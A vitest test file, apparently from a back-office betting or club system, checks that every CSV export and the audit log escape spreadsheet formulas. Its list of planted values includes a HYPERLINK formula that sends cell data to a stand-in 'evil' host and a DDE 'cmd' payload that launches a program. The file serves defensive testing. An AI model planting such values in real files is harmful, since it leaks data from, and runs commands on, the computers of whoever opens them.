import { auditExportPath, paths } from '@touchline/contract/paths';
import { routes } from '@touchline/contract/routes';
import { CsvPart } from '@touchline/contract/shapes/office-views';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { newId } from '../core/ids.ts';
import { ownedData, ownedDataSettings, type OwnedData } from '../testing/scenarios/owned-data.ts';
import { testTouchline } from '../testing/touchline.ts';

// Everything that leaves the office as a table, with words in it that a spreadsheet would run.

let site: OwnedData;
beforeAll(async () => {
  site = await ownedData(await testTouchline({ env: ownedDataSettings, background: true }));
}, 60_000);
afterAll(() => site.close());

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠A',
  '=HYPERLINK("http://evil/?"&A1,"here")',
  "=cmd|' /C calc'!A0",
  '"=1"',
  'a","=1',
  'x\r\n=1,=1',
  ';=1',
];
const runs = /^[=+\-@\t\r\n＝＋－＠]/;
const isDecimal = /^-?\d+(\.\d+)?$/;

/** The cells of a table as a spreadsheet reads it (RFC 4180). */
const cellsOf = (csv: string): string[] => {
  const cells: string[] = [];
  let rest = csv.replace(/^\uFEFF/, '');
  while (rest !== '') {
    const [whole, quoted, plain = ''] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/.exec(rest) ?? [
      rest,
      undefined,
      rest,
    ];
    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    rest = rest.slice(Math.max(1, whole.length));
  }
  return cells;
};

/** No cell runs, and what was planted is there as words. */
const expectHarmless = (csv: string, planted: readonly string[]): void => {
  const cells = cellsOf(csv);
  for (const cell of cells) if (runs.test(cell) && !isDecimal.test(cell)) expect(cell).toBe('no formula');
  for (const word of planted) expect(cells).toContain(runs.test(word) ? `'${word}` : word);
};

const today = () => new Date().toISOString().slice(0, 10);
const take = async (name: keyof typeof exported, input: Record<string, string>): Promise<string> =>
  (await site.askAs(await site.one('owner'), name, input)).csv;

/** Each table with what hostile words can get into it. */
const exported = {
  officeLedgerExport: async () => {
    const { pool } = site.database;
    const accounts: string[] = [];
    for (const word of formulas) {
      const { id } = await site.newcomer();
      await pool.query('update member set account = $2 where id = $1', [id, word]);
      expectHarmless(await take('officeLedgerExport', { member: id }), [word]);
      accounts.push(word);
    }
    expectHarmless(await take('officeLedgerExport', { day: today() }), accounts);
  },
  officeReportExport: async () => {
    const { pool } = site.database;
    await pool.query('update competition set name = $1', [formulas[0]]);
    await site.modules.book.service.board.refresh([site.event]);
    const span = { from: today(), to: today() };
    for (const table of ['days', 'methods', 'promotions', 'competitions']) {
      expectHarmless(await take('officeReportExport', { ...span, table }), []);
    }
    // Reports count finished transactions only, and those of other tests hold them back.
    await expect
      .poll(async () => cellsOf(await take('officeReportExport', { ...span, table: 'competitions' })), {
        timeout: 60_000,
      })
      .toContain("'=1+1");
  },
  officeCommissionExport: async () => {
    await site.commission();
    const { pool } = site.database;
    await pool.query('update member set account = $2 where id = $1', [site.owner.id, formulas[11]]);
    await pool.query(
      `insert into team_run (day, state, rules_version, read_from, read_to, closed_at)
       values ('2026-06-11', 'closed', 1, now(), now(), now()) on conflict do nothing`,
    );
    await pool.query(
      `insert into team_due (shard, leader_id, day, run, amount, state, done_at)
       select shard, id, '2026-06-11', '2026-06-11', -500, 'done', now() from member where id = $1`,
      [site.owner.id],
    );
    const csv = await take('officeCommissionExport', { run: '2026-06-11' });
    expectHarmless(csv, [formulas[11] ?? '']);
  },
};

test('every table of the contract is here', () => {
  const tables = Object.entries(routes).flatMap(([name, { output }]) =>
    JSON.stringify(output) === JSON.stringify(CsvPart) ? [name] : [],
  );
  expect(Object.keys(exported).toSorted()).toEqual(tables.toSorted());
  // Tables that are files have paths of their own: the log's is the only one.
  expect(Object.values(paths).filter(([, path]) => path.endsWith('.csv'))).toEqual([]);
});

test.each(Object.entries(exported))('%s runs nothing', async (_name, check) => {
  await check();
});

test('the exported audit log has no formulas, for any text of operators and strangers', async () => {
  const [cashier, auditor] = [await site.one('cashier'), await site.one('auditor')];
  for (const reason of formulas) {
    const given = { key: newId(), member: site.other.id, amount: '1', reason: `${reason} for the test` };
    await site.askAs(cashier, 'officeAdjustmentAdd', given);
  }
  const trader = await site.one('trader');
  for (const name of formulas) {
    await site.askAs(trader, 'officeNameExplain', { kind: 'competition', name, means: 'test' });
  }
  const { payload } = await site.app.inject({
    method: 'GET',
    url: auditExportPath,
    headers: { 'ba-office-token': auditor.token },
  });
  // The name is the subject of its line.
  expectHarmless(payload, formulas);
});
